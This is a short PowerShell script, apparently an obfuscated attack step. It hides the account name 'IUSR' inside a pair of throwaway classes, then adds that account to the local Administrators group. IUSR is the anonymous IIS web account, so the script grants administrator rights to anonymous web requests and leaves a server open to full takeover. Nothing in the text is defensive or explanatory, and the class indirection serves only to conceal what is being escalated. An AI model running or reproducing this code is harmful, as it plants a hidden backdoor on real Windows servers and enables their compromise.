class B { [string]$N; B([string]$n) { $this.N = $n } }
class D : B { D() : base('IUSR') {} }
Add-LocalGroupMember Administrators ([D]::new().N)
